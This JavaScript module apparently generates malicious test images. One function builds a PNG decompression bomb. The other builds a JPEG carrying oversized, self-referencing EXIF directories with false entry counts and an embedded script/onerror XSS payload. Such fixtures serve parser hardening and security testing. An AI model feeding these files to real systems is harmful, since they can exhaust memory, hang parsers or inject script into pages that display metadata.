// Pictures that are meant to break whoever opens them.

import { crc32, deflateSync } from 'node:zlib';

/** A PNG of some kilobytes that unpacks to `side` × `side` pixels. */
export function hugePng(side) {
  const chunk = (name, data) => {
    const out = Buffer.alloc(12 + data.length);
    out.writeUInt32BE(data.length, 0);
    out.write(name, 4, 'latin1');
    data.copy(out, 8);
    out.writeUInt32BE(crc32(out.subarray(4, 8 + data.length)), 8 + data.length);
    return out;
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(side, 0);
  head.writeUInt32BE(side, 4);
  // One bit for a pixel.
  head[8] = 1;
  const lines = Buffer.alloc((Math.ceil(side / 8) + 1) * side);
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(lines, { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A JPEG with so many EXIF segments of 64 kB, each with directories that lead to themselves,
    that claim more entries than there are, and that hold a script. */
export function exifBomb(jpeg, segments) {
  const script = '<script>window.owned = 1</script><img src=x onerror="window.owned = 1">\0';
  const tiff = Buffer.alloc(65_000);
  tiff.write('II*\0', 0, 'latin1');
  tiff.writeUInt32LE(8, 4);
  tiff.writeUInt16LE(4, 8);
  const entry = (at, tag, type, count, value) => {
    tiff.writeUInt16LE(tag, at);
    tiff.writeUInt16LE(type, at + 2);
    tiff.writeUInt32LE(count, at + 4);
    tiff.writeUInt32LE(value, at + 8);
  };
  // Description, maker, and two directories that are this one; one of them claims 4 billion entries.
  entry(10, 0x010e, 2, script.length, 100);
  entry(22, 0x010f, 2, 0xffff_ffff, 100);
  entry(34, 0x8769, 4, 1, 8);
  entry(46, 0x8825, 4, 0xffff_ffff, 8);
  tiff.writeUInt32LE(8, 58);
  tiff.write(script, 100, 'latin1');
  const segment = Buffer.concat([Buffer.from([0xff, 0xe1, 0, 0]), Buffer.from('Exif\0\0', 'latin1'), tiff]);
  segment.writeUInt16BE(segment.length - 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), ...Array(segments).fill(segment), jpeg.subarray(2)]);
}
